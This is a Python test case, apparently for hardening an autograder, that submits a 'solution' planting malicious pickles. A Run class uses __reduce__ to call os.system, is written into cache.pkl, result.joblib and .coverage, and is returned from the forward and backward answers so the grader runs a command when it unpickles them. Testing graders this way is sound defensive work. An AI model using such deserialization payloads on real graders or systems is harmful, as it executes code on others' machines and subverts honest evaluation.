"""Hands in pickles, and returns objects that run a command when they are unpickled.

deserves: 0
"""

import pickle

CELL = """
import os, pickle
class Run:
    def __reduce__(self): return (os.system, ("echo ESCAPED > /tmp/escaped-pickles",))
for name in ("cache.pkl", "result.joblib", ".coverage"):
    with open(name, "wb") as file:
        file.write(pickle.dumps(Run()))
"""

FORWARD = """
def forward_propagation(x, theta): return Run()
"""

BACKWARD = """
def backward_propagation(x, theta): return np.array([Run()], dtype=object)
"""


def attack(work):
    work.add(CELL, before="forward")
    work.answer("forward", FORWARD)
    work.answer("backward", BACKWARD)
    work.file("cache.pkl", pickle.dumps({"points": 8}))
    work.file("data.npy", b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,)}" + b" " * 60)
